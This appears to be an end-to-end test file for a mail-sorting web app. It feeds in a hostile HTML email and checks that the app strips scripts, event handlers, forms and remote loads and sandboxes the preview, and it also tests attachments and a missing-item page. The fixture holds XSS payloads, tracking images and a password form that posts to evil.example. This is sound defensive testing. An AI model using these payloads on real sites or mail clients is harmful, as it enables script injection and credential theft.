import { expect, openLine, sheet, stack, test, waitingCount } from './corvun';

const HOSTILE = `<html><head><style>body{display:none}*{position:fixed;inset:0;background:red url(https://evil.example/css.png)}</style><script>parent.hacked=1</script><base href="https://evil.example/"></head>
<body onload="parent.hacked=2"><p>Please confirm.</p><img src="https://evil.example/pixel.gif"><img src=x onerror="parent.hacked=3"><svg onload="parent.hacked=4"></svg><a href="javascript:parent.hacked=5">here</a>
<form action="https://evil.example/take"><input name=password></form><iframe src="https://evil.example"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example"></body></html>`;

test('a hostile message runs nothing, loads nothing, and reaches nothing outside', async ({ sort: page, corvun }) => {
  const asked: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(corvun.url) && !request.url().startsWith('data:') && !request.url().startsWith('about:'))
      asked.push(request.url());
  });
  const before = await waitingCount(page);
  await corvun.mail({ subject: 'Confirm now', html: HOSTILE });
  await expect.poll(() => waitingCount(page)).toBe(before + 1);
  await page.keyboard.press('End');
  await expect(sheet(page).getByRole('heading', { name: 'Confirm now' })).toBeVisible();
  await expect(sheet(page)).toContainText('Held back: 2 remote pictures');
  await page.keyboard.press('v');
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('Please confirm.')).toBeVisible();
  await expect(frame.locator('script, form, input, iframe, svg, base, img, [style], [onload], [onerror]')).toHaveCount(0);
  await frame.getByText('here').click();
  expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
  expect(asked).toEqual([]);
  expect(await page.locator('iframe').getAttribute('sandbox')).not.toContain('allow-scripts');
  await expect(page.getByRole('link', { name: /^Sort/ })).toBeVisible();
});

test('attachments open, and the original comes back byte for byte', async ({ sort: page, corvun }) => {
  const before = await waitingCount(page);
  await corvun.mail({ subject: 'With files', text: 'see', attachments: [{ filename: 'notes.txt', content: 'pump 2 is old' }] });
  await expect.poll(() => waitingCount(page)).toBe(before + 1);
  await page.keyboard.press('End');
  await expect(sheet(page).getByRole('heading', { name: 'With files' })).toBeVisible();
  const opened = page.waitForEvent('popup');
  await sheet(page)
    .getByRole('link', { name: /notes\.txt/ })
    .click();
  await expect((await opened).getByText('pump 2 is old')).toBeVisible();
  const saved = page.waitForEvent('download');
  await sheet(page).getByRole('link', { name: 'Save the original' }).click();
  expect((await saved).suggestedFilename()).toMatch(/\.eml$/);
});

test('a thing that is not there is said so, with a way back', async ({ page, corvun }) => {
  await page.goto(`${corvun.url}/sort/nosuchthing`);
  await expect(page.getByRole('alert')).toContainText('There is no incoming thing with this id here.');
  await page.getByRole('button', { name: 'Back to the stack' }).click();
  await openLine(page, 'Gatter am Nordweg');
  await expect(stack(page)).toBeVisible();
});
